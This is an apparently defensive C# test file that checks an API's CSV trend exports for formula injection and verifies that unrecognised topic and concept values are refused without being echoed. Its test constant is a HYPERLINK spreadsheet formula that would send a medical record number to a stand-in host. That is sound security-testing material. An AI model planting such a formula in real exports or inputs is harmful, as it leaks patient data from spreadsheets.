namespace CaseGraph.Api.Tests;

/// <summary>
/// Finding 8 of issue 17 (CSV part) on Kestrel: topic ids and concept names outside the taxonomy and vocabulary are
/// refused with a 400 that does not repeat them, and no CSV the API writes has a cell a spreadsheet would run.
/// </summary>
[Collection(BundledKestrelCollection.Name)]
public class TrendCsvSafetyApiTests(BundledKestrelFactory factory)
{
    private const string Hostile = "=HYPERLINK(\"http://x.example/?mrn=4417\";\"open\"),-2+3";

    [Theory]
    [InlineData("/api/topics/trends?format=csv&topic=", "topic")]
    [InlineData("/api/topics/trends?format=csv&topic=oud-treatment,period", "topic")]
    [InlineData("/api/topics/trends?format=csv&topic=Jane%20Doe", "topic")]
    [InlineData("/api/concepts/trends?format=csv&concepts=", "concepts")]
    [InlineData("/api/concepts/trends?format=csv&concepts=fentanyl,Jane%20Doe", "concepts")]
    public async Task A_topic_or_concept_outside_the_taxonomy_is_a_400_that_does_not_repeat_it(string url, string field)
    {
        using var client = factory.Client(SecuredApiFactory.ResearcherKey);
        using var response = await client.GetAsync(url.EndsWith('=') ? url + Uri.EscapeDataString(Hostile) : url);

        await Problems.AssertValidationProblemAsync(response, field);
        var body = await response.Content.ReadAsStringAsync();
        foreach (var part in new[] { "HYPERLINK", "4417", "Jane", "Doe", "-2+3", "oud-treatment,period" }) Assert.DoesNotContain(part, body);
    }

    [Theory]
    [InlineData("/api/topics/trends?format=csv&interval=year")]
    [InlineData("/api/topics/trends?format=csv&interval=quarter&setting=rural")]
    [InlineData("/api/concepts/trends?format=csv&interval=year&concepts=fentanyl,xylazine,Suboxone")]
    public async Task Every_trend_csv_has_five_plain_cells_a_line(string url)
    {
        using var client = factory.Client(SecuredApiFactory.ResearcherKey);
        var lines = (await client.GetStringAsync(url)).TrimEnd('\n').Split('\n').Where(l => !l.StartsWith('#')).ToList();

        Assert.True(lines.Count > 1);
        Assert.All(lines, line =>
        {
            var cells = line.Split(',');
            Assert.Equal(5, cells.Length);
            Assert.All(cells, c => Assert.False(c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '"', line));
        });
    }
}
